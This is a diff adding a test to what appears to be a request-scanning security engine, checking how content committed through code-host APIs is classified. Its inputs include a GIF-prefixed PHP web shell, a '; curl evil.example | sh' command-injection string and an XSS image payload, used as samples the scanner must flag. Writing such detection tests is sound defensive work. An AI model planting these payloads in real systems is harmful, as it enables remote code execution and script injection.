@@ -1173,6 +1173,52 @@ def test_an_object_stored_whole_counts_for_what_a_stored_file_does(engine: Engin
         assert stored("", key) == {"ptrav"}
 
 
+def test_a_file_a_code_host_is_given_to_commit_counts_for_what_a_stored_file_does(
+    engine: Engine,
+) -> None:
+    """A file put by a code host's API (GitHub's, Gitea's contents and blobs in base64, a
+    gist's files, GitLab's repository files, a commit's actions, a CI configuration to
+    lint) is a file stored: a workflow's steps and a Compose file's commands are what it
+    is made of. A web shell or markup counts, a one-line value counts, and so does the
+    same content sent to any other API."""
+    workflow = (
+        "name: CI\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - run: pytest -q; coverage xml\n"
+        "      - run: curl -fsSL https://get.example.com/install.sh | bash -s -- -v 1.2\n"
+    )
+    compose = (
+        "services:\n  worker:\n    image: app:1\n"
+        '    command: sh -c "python manage.py migrate && celery -A app worker"\n'
+        "    healthcheck:\n      test: curl -f http://localhost:8000/health || exit 1\n"
+    )
+    shell = "GIF89a\n\n<?php\n@eval($_POST['x']);\n?>\n"
+
+    def put(target: str, body: dict[str, object]) -> set[str]:
+        headers = (("Content-Type", "application/json"),)
+        request = Request("PUT", target, headers, json.dumps(body).encode())
+        return {hit.type.value for hit in engine.scan(request) if hit.type.value != "overlimit"}
+
+    def b64(text: str) -> str:
+        return base64.b64encode(text.encode()).decode()
+
+    contents = "/repos/ana/shop/contents/.github/workflows/ci.yml"
+    for target, body in (
+        (contents, {"message": "ci", "content": b64(workflow)}),
+        ("/api/v3/repos/ana/shop/git/blobs", {"content": b64(compose), "encoding": "base64"}),
+        ("/api/v1/repos/ana/shop/contents/compose.yaml", {"content": b64(compose)}),
+        ("/gists", {"files": {"ci.yml": {"content": workflow}}}),
+        ("/api/v4/projects/7/repository/files/.gitlab-ci.yml", {"content": workflow}),
+        ("/api/v4/projects/7/repository/commits", {"actions": [{"content": compose}]}),
+        ("/api/v4/projects/7/ci/lint", {"content": workflow}),
+    ):
+        assert put(target, body) == set(), target
+        assert put("/api/notes", body) >= {"rce"}
+    assert "rce" in put(contents, {"content": b64(shell)})
+    assert "rce" in put(contents, {"content": b64("; curl evil.example | sh")})
+    assert "xss" in put(contents, {"content": b64("<p>\n<img src=x onerror=alert(1)>\n</p>\n")})
+    assert "rce" in put(contents, {"message": "; curl evil.example | sh\n\n", "content": "x"})
+
+
 @pytest.mark.parametrize(
     "target",
     [
